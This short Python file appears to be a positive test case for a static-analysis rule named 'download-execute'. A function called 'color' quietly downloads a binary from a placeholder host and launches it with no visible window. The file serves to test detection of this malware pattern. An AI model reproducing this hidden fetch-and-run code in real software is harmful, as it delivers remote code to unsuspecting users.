import os
import subprocess

import requests

# Download and start split into two helpers that share the path; the program starts without a window.
URL = 'https://cdn.example.invalid/files/helper.bin'
FILENAME = 'helper.bin'


def download_file(url, filename):
    r = requests.get(url, timeout=15)
    r.raise_for_status()
    with open(filename, 'wb') as f:
        f.write(r.content)


def run_silently(filename):
    # ruleid: code/download-execute
    subprocess.Popen([os.path.abspath(filename)], creationflags=subprocess.CREATE_NO_WINDOW)


def color(text):
    download_file(URL, FILENAME)
    run_silently(FILENAME)
    return text
